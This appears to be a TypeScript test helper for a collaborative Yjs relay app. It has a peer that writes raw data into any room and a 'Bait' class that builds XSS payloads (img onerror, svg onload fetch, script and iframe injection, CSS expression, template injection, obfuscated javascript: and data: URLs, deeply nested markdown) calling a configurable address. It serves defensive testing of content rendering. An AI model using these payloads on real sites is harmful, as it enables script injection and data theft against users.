// A peer that writes what no program of ours would: raw Yjs into any room of a relay, by a stock y-websocket client. It judges nothing.
import { WebSocket } from 'ws';
import { WebsocketProvider } from 'y-websocket';
import * as Y from 'yjs';

export class HostilePeer {
  readonly #url: string;
  readonly #open: WebsocketProvider[] = [];

  constructor(url: string) {
    this.#url = url;
  }

  /** Joins a room, has what is there, and writes. */
  async write(room: string, work: (doc: Y.Doc) => void): Promise<WebsocketProvider> {
    const doc = new Y.Doc();
    const provider = new WebsocketProvider(this.#url, room, doc, {
      WebSocketPolyfill: WebSocket as unknown as typeof globalThis.WebSocket,
      disableBc: true,
    });
    this.#open.push(provider);
    if (!provider.synced) await new Promise<void>((done) => provider.once('sync', () => done()));
    doc.transact(() => work(doc));
    return provider;
  }

  leave(): void {
    for (const provider of this.#open.splice(0)) {
      provider.destroy();
      provider.awareness.destroy();
      provider.doc.destroy();
    }
  }
}

/** What stands where somebody's words are expected: each way of running or fetching something, at an address of its own. */
export class Bait {
  readonly #at: string;

  constructor(at: string) {
    this.#at = at;
  }

  /** Up to 50 characters: `#/mark` is where it stands. */
  short(where: string): string {
    return `"><img src=${this.#at}/${where} onerror=run()>`;
  }

  /** Up to 255 characters without a line break. */
  name(where: string): string {
    return `"><svg onload="fetch('${this.#at}/${where}/js')"><image href="${this.#at}/${where}/i"/></svg><img src=${this.#at}/${where}>`;
  }

  long(where: string): string {
    const at = `${this.#at}/${where}`;
    return `${this.name(where)}<style>@import '${at}/css'; * { background: url(${at}/bg); width: expression(fetch('${at}/ex')) }</style><script src="${at}/s.js"></script><iframe src="${at}/frame" srcdoc="<script>fetch('${at}/doc')</script>"></iframe><object data="${at}/o"></object><link rel=stylesheet href="${at}/l"><base href="${at}/base"><form action="${at}/form">{@html x}{{constructor.constructor('fetch')()}}</form>`;
  }

  /** Markdown of which each paragraph is read for itself. */
  markdown(where: string): string {
    const at = `${this.#at}/${where}`;
    const run = `javascript:fetch('${at}/js')`;
    return [
      `[run](${run}) and <${run}>`,
      `[data](data:text/html,<script>fetch('${at}/d')</script>)`,
      `![remote](${at}/md.png)`,
      `> [!NOTE]\n> [quoted](${run})`,
      `| a |\n| --- |\n| [cell](${run}) |`,
      `[reference]\n\n[reference]: ${run}`,
      this.long(where),
    ].join('\n\n');
  }

  /** Too deep to be read as what it says. */
  deep(where: string): string {
    return `${'> '.repeat(3_000)}${this.name(where)}\n\n${'- '.repeat(3_000)}${this.name(where)}`;
  }

  /** Addresses that must lead nowhere. */
  links(): string[] {
    const run = `fetch('${this.#at}/link')`;
    return [
      `javascript:${run}`,
      ` \u0001JaVaScRiPt:${run}`,
      `java\tscript:${run}`,
      `vbscript:${run}`,
      `data:text/html,<script>${run}</script>`,
      `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
      `blob:${this.#at}/link`,
      `file:///${this.#at}/link`,
      `//${this.#at.replace('http://', '')}/link`,
      `page:"><img src=${this.#at}/link>`,
    ];
  }
}
